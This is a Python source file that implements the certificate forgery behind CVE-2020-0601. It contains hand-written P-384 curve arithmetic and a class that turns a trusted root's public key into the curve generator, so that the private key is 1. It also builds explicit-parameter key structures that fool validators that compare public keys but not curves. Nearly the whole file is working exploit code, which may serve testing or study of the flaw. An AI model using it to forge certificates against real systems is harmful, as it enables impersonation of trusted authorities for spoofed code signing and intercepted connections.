"""ECDSA on P-384 with a generator of one's own choice, which no library offers: for the forgery of CVE-2020-0601.

A certificate may spell its curve out instead of naming it. With the trusted root's public key as the generator, the
private key is 1: whoever compares public keys, but not curves, takes the forger for the root.
"""

import secrets

import der
from certificates import HASHES, public_info
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

P = 2**384 - 2**128 - 2**96 + 2**32 - 1
A = P - 3
B = 0xB3312FA7E23EE7E4988E056BE3F82D19181D9C6EFE8141120314088F5013875AC656398D8A2ED19D2A85C8EDD3EC2AEF
ORDER = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973

Point = tuple[int, int] | None


def add(first: Point, second: Point) -> Point:
    if first is None or second is None:
        return first or second
    (x1, y1), (x2, y2) = first, second
    if x1 == x2:
        if (y1 + y2) % P == 0:
            return None
        slope = (3 * x1 * x1 + A) * pow(2 * y1, -1, P) % P
    else:
        slope = (y2 - y1) * pow(x2 - x1, -1, P) % P
    x3 = (slope * slope - x1 - x2) % P
    return x3, (slope * (x1 - x3) - y1) % P


def multiply(scalar: int, point: Point) -> Point:
    result = None
    while scalar:
        if scalar & 1:
            result = add(result, point)
        point = add(point, point)
        scalar >>= 1
    return result


class ChosenGenerator:
    """Signs with the private key 1 on the curve whose generator is somebody's public key."""

    def __init__(self, victim: ec.EllipticCurvePrivateKey):
        numbers = victim.public_key().public_numbers()
        self.generator = (numbers.x, numbers.y)
        self.info = self._explicit_info()

    def sign(self, _key, digest: str, message: bytes) -> bytes:
        context = hashes.Hash(HASHES[digest]())
        context.update(message)
        number = int.from_bytes(context.finalize(), "big")
        nonce = secrets.randbelow(ORDER - 1) + 1
        r = multiply(nonce, self.generator)[0] % ORDER
        return encode_dss_signature(r, pow(nonce, -1, ORDER) * (number + r) % ORDER)

    def _explicit_info(self) -> bytes:
        """A SubjectPublicKeyInfo with all parameters of the curve; the key is the generator itself."""
        point = b"\x04" + b"".join(number.to_bytes(48, "big") for number in self.generator)
        field = der.sequence(der.oid("1.2.840.10045.1.1"), der.integer(P))
        curve = der.sequence(der.octet_string(A.to_bytes(48, "big")), der.octet_string(B.to_bytes(48, "big")))
        parameters = der.sequence(
            der.integer(1), field, curve, der.octet_string(point), der.integer(ORDER), der.integer(1)
        )
        return der.sequence(der.sequence(der.oid("1.2.840.10045.2.1"), parameters), der.bit_string(point))


def info_with_point(key: ec.EllipticCurvePrivateKey, point: bytes) -> bytes:
    """A key's SubjectPublicKeyInfo with other bytes as the point."""
    info = public_info(key)
    size = 1 + 2 * ((key.curve.key_size + 7) // 8)
    algorithm_and_header = info[2 : len(info) - size - 3] if info[1] < 0x80 else info[3 : len(info) - size - 3]
    return der.sequence(algorithm_and_header, der.bit_string(point))
